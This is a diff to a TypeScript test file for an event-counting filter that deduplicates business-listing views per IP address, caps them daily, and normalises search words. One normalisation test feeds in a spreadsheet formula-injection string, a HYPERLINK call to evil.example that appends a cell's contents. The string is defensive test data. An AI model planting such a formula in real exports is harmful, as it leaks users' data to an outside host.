@@ -5,6 +5,7 @@ import {
 	chamberDay,
 	change,
 	countEvents,
+	DAILY_COUNTS_PER_ADDRESS,
 	monthOf,
 	monthRange,
 	normaliseSearchWords,
@@ -74,25 +75,45 @@ describe('repeats from the same address', () => {
 		expect(filter.admit('203.0.113.5', [view()])).toHaveLength(1);
 	});
 
-	it('are told apart by address, business, kind and search words', () => {
+	it('are told apart by address, business and kind, not by search words', () => {
 		const filter = new RepeatFilter(() => Date.UTC(2026, 10, 3, 9, 0));
 		expect(
 			filter.admit('203.0.113.5', [
+				view(A, 'roofers'),
 				view(),
-				view(),
+				view(A, 'roofers near me'),
 				view(B),
 				{ kind: 'website', business: A },
 				{ kind: 'phone', business: A },
-				view(A, 'roofers'),
 			]),
 		).toEqual([
-			view(),
+			view(A, 'roofers'),
 			view(B),
 			{ kind: 'website', business: A },
 			{ kind: 'phone', business: A },
-			view(A, 'roofers'),
 		]);
 		expect(filter.admit('203.0.113.6', [view()])).toHaveLength(1);
+	});
+
+	it('count at most 500 events of one address a day, from midnight UTC', () => {
+		let now = Date.UTC(2026, 10, 3, 9, 0);
+		const filter = new RepeatFilter(() => now);
+		const ids = Array.from(
+			{ length: DAILY_COUNTS_PER_ADDRESS + 1 },
+			(_, i) => `00000000-0000-0000-0000-${String(i).padStart(12, '0')}`,
+		);
+		const shown = (business: string): StatEvent => ({ kind: 'shown', business });
+		let counted = 0;
+		for (let i = 0; i < ids.length; i += 50) {
+			counted += filter.admit('203.0.113.5', ids.slice(i, i + 50).map(shown)).length;
+		}
+		expect(counted).toBe(DAILY_COUNTS_PER_ADDRESS);
+		// Hours later, past every repeat window: still nothing from that address today.
+		now += 6 * 3_600_000;
+		expect(filter.admit('203.0.113.5', [view(B)])).toEqual([]);
+		expect(filter.admit('203.0.113.6', [view(B)])).toEqual([view(B)]);
+		now = Date.UTC(2026, 10, 4, 0, 1);
+		expect(filter.admit('203.0.113.5', [view(B)])).toEqual([view(B)]);
 	});
 
 	it('are forgotten with the day: a new salt and no hashes at midnight UTC', () => {
@@ -108,9 +129,9 @@ describe('repeats from the same address', () => {
 	it('never hold an address as it is', () => {
 		const filter = new RepeatFilter(() => Date.UTC(2026, 10, 3, 9, 0));
 		filter.admit('203.0.113.5', [view()]);
-		const held = JSON.stringify([
-			...(filter as unknown as { seen: Map<string, number> }).seen.keys(),
-		]);
+		const maps = filter as unknown as Record<'seen' | 'counted', Map<string, number>>;
+		const held = JSON.stringify([...maps.seen.keys(), ...maps.counted.keys()]);
+		expect(maps.counted.size).toBe(1);
 		expect(held).not.toContain('203.0.113.5');
 		expect(held).not.toContain(A);
 	});
@@ -158,10 +179,26 @@ describe('kinds and batches', () => {
 		]);
 	});
 
-	it('keep search words lower case, spaces collapsed, at most 100 characters', () => {
+	it('keep search words lower case, one space apart, at most 10 words and 100 characters', () => {
 		expect(normaliseSearchWords('\tPlumbers  IN\nCedar Valley ')).toBe('plumbers in cedar valley');
 		expect(normaliseSearchWords(`${'a'.repeat(99)} b`)).toBe('a'.repeat(99));
 		expect(normaliseSearchWords('   ')).toBe('');
+		expect(normaliseSearchWords('one two three four five six seven eight nine ten eleven')).toBe(
+			'one two three four five six seven eight nine ten',
+		);
+		// Code points, as the database counts them: a cut never splits a character in two.
+		expect(Array.from(normaliseSearchWords('𝒜'.repeat(101)))).toEqual(Array(100).fill('𝒜'));
+		expect(normaliseSearchWords(`${'é'.repeat(150)}`)).toBe('é'.repeat(100));
+	});
+
+	it('keep the words of a search and none of its punctuation', () => {
+		expect(normaliseSearchWords('=HYPERLINK("http://evil.example/?"&A1,"Open report")')).toBe(
+			'hyperlink http evil example a1 open report',
+		);
+		expect(normaliseSearchWords("Joe's Bar & Grill")).toBe("joe's bar grill");
+		expect(normaliseSearchWords('Café  Zürich — 24/7')).toBe('café zürich 24 7');
+		expect(normaliseSearchWords('-1+1 @home')).toBe('1 1 home');
+		expect(normaliseSearchWords('!!! ...')).toBe('');
 	});
 });
 
